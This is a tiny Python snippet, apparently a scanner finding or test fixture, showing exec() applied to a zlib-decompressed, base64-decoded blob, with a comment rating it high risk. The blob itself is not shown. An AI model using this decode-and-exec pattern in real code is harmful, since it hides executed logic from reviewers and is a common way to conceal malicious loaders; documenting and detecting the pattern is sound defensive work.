import zlib, base64
exec(zlib.decompress(base64.b64decode(blob)))
#^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ high: runs a text that only decoding makes readable
